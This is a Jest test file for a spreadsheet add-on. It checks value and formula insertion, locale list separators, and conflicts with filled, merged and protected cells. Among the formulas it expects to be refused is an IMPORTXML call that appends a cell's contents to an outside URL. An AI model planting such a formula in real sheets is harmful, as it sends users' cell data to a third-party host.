import type { Insertion } from '../../../shared/ports';
import { insertionInto } from '../../setup/insertion';
import { BulkPanel } from '../../fakes/apps-script/bulk-panel';
import { grid, panel, useBulkSheet, world } from '../bulk/bulk-sheet';

useBulkSheet();

const VALUES = insertionInto('7');
const FORMULA: Insertion = {
  ...VALUES,
  content: { formula: '=TRACE_SEARCH("Stripe, Inc; ""Payments""","name, country","top=3")' },
};

const values = (): unknown[][] => [2, 3].map((row) => [2, 3].map((column) => grid.value({ row, column })));

it('values are entered from the cell on, texts as texts and days as days', async () => {
  expect(await panel.host.insertAt(VALUES)).toEqual({ is: 'done' });
  expect(values()).toEqual([
    ['Since', '=Partner'],
    [45_362, 12],
  ]);
  expect(grid.layout.formatAt({ row: 3, column: 2 })).toBe('yyyy-mm-dd');
});

it('a formula is entered with semicolons between its arguments, and its texts stay as they are', async () => {
  const put = jest.spyOn(grid, 'put');
  expect(await panel.host.insertAt(FORMULA)).toEqual({ is: 'done' });
  expect(put).toHaveBeenCalledWith(
    { row: 2, column: 2 },
    '=TRACE_SEARCH("Stripe, Inc; ""Payments""";"name, country";"top=3")',
  );
});

it.each([
  ['values', VALUES],
  ['a formula', FORMULA],
])('if a cell is filled, nothing of %s is entered, and the first such cell is told', async (_name, insertion) => {
  grid.put({ row: 3, column: 3 }, 7);
  grid.put({ row: 3, column: 2 }, 'mine');
  expect(await panel.host.insertAt(insertion)).toEqual({
    is: 'inTheWay',
    row: 2,
    column: 1,
    value: 'mine',
    cells: 2,
  });
  expect(values()).toEqual([
    ['', ''],
    ['mine', 7],
  ]);
});

it('if a cell is merged, nothing is entered, and the cell is told', async () => {
  grid.layout.merged.push({ row: 2, column: 3, rows: 3, columns: 1 });
  expect(await panel.host.insertAt(VALUES)).toEqual({ is: 'inTheWay', row: 1, column: 2, value: '', cells: 1 });
});

it('a protected cell is not written, and no other one', async () => {
  grid.layout.protectedAreas.push({ row: 3, column: 3, rows: 1, columns: 1 });
  const other = new BulkPanel(world, 'editor').host.insertAt(VALUES);
  await expect(other).rejects.toMatchObject({ code: 'cellsProtected' });
  expect(values()).toEqual([
    ['', ''],
    ['', ''],
  ]);
});

it('a cell that refuses its value takes the others back', async () => {
  grid.layout.rejecting.add('3:3');
  await expect(panel.host.insertAt(VALUES)).rejects.toMatchObject({ code: 'sheetRefused' });
  expect(values()).toEqual([
    ['', ''],
    ['', ''],
  ]);
});

it('a sheet that is too small grows', async () => {
  grid.layout.rows = 2;
  grid.layout.columns = 2;
  expect(await panel.host.insertAt(VALUES)).toEqual({ is: 'done' });
  expect(values()[1]).toEqual([45_362, 12]);
});

it.each([
  '=IMPORTXML("https://example.com/?"&A1,"//a")',
  '=TRACE_TECH(A1)&A2',
  '=TRACE_GET(HYPERLINK("x"))',
  'TRACE_TECH(A1)',
  '=TRACE_TECH("a" & "b")',
])('%s is not entered: it is no single call of a Trace function', async (formula) => {
  await expect(panel.host.insertAt({ ...VALUES, content: { formula } })).rejects.toMatchObject({
    code: 'actionMalformed',
  });
  expect(grid.formula({ row: 2, column: 2 })).toBe('');
});

it('the active cell is told with its value and formula, with commas', async () => {
  grid.hold({ row: 1, column: 1 }, 'stripe.com');
  grid.put({ row: 1, column: 2 }, '=TRACE_TECH(A1;"name, slug")');
  const at = (row: number, column: number) => {
    world.state.selection = { sheetId: 7, areas: [{ row, column, rows: 2, columns: 2 }] };
    return panel.host.activeCell();
  };
  const sheet = { sheet: '7', sheetName: 'Leads' };
  expect(await at(1, 1)).toEqual({ ...sheet, row: 0, column: 0, value: 'stripe.com', formula: '' });
  expect(await at(1, 2)).toMatchObject({ row: 0, column: 1, formula: '=TRACE_TECH(A1,"name, slug")' });
  grid.type = 'OBJECT';
  expect(await at(1, 1)).toBe('object');
});

it("a formula may name cells of other sheets, commas in a sheet's name included", async () => {
  const formula = '=TRACE_PARTNERED(\'Q1, EU\'!A2:A9,Leads!$B$2,"partnered")';
  const put = jest.spyOn(grid, 'put');
  expect(await panel.host.insertAt({ ...VALUES, content: { formula } })).toEqual({ is: 'done' });
  expect(put).toHaveBeenCalledWith({ row: 2, column: 2 }, '=TRACE_PARTNERED(\'Q1, EU\'!A2:A9;Leads!$B$2;"partnered")');
});

it.each([
  ['en_US', ','],
  ['de_DE', ';'],
  ['pt_BR', ';'],
])('the list separator of %s is %s', async (locale, separator) => {
  world.state.locale = locale;
  expect(await panel.host.listSeparator()).toBe(separator);
});
